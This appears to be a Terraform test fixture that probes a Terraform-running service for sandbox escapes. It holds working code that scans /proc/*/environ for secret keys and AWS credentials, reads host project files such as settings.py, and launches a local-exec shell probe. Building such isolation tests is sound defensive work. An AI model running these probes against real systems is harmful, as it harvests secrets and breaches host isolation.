# A hostile blueprint: each probe tries one escape and prints what it got. Plan-time probes are
# Terraform functions (file, fileset, templatefile) in outputs; apply-time probes are the shell
# script of a local-exec provisioner (probe.tftpl). Every probe says "ran" first.

variable "project_dir" {
  type = string
}

variable "var_dir" {
  type = string
}

variable "targets" {
  type        = string
  description = "host:port pairs to connect to, space-separated"
}

variable "other_run_dir" {
  type = string
}

variable "host_terraform" {
  type = string
}

variable "host_plugins" {
  type = string
}

variable "allowed_url" {
  type    = string
  default = ""
}

locals {
  environ_files = fileset("/proc", "*/environ")
  leaks = distinct(flatten([
    for f in local.environ_files :
    regexall("(?:FIELD_ENCRYPTION_KEYS|SECRET_KEY|AWS_SECRET_ACCESS_KEY)=[^\u0000]*", try(file("/proc/${f}"), ""))
  ]))
  var_listing = try(fileset(var.var_dir, "**"), [])
}

output "plan_probe_environ" {
  value = "ran; found: ${join(" | ", local.leaks)}"
}

output "plan_probe_settings" {
  value = "ran; ${try("read: ${substr(file("${var.project_dir}/mcloud/settings.py"), 0, 60)}", "not found")}"
}

output "plan_probe_var_dir" {
  value = "ran; ${length(local.var_listing) > 0 ? "listed: ${join(",", local.var_listing)}" : "not found"}"
}

output "plan_probe_template" {
  value = "ran; ${try("read ${length(templatefile("${var.project_dir}/manage.py", {}))} bytes", "not found")}"
}

resource "null_resource" "probe" {
  triggers = {
    always = timestamp()
  }

  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]
    command     = file("${path.module}/probe.tftpl")
    environment = {
      PROJECT_DIR    = var.project_dir
      VAR_DIR        = var.var_dir
      TARGETS        = var.targets
      OTHER_RUN_DIR  = var.other_run_dir
      HOST_TERRAFORM = var.host_terraform
      HOST_PLUGINS   = var.host_plugins
      ALLOWED_URL    = var.allowed_url
    }
  }
}
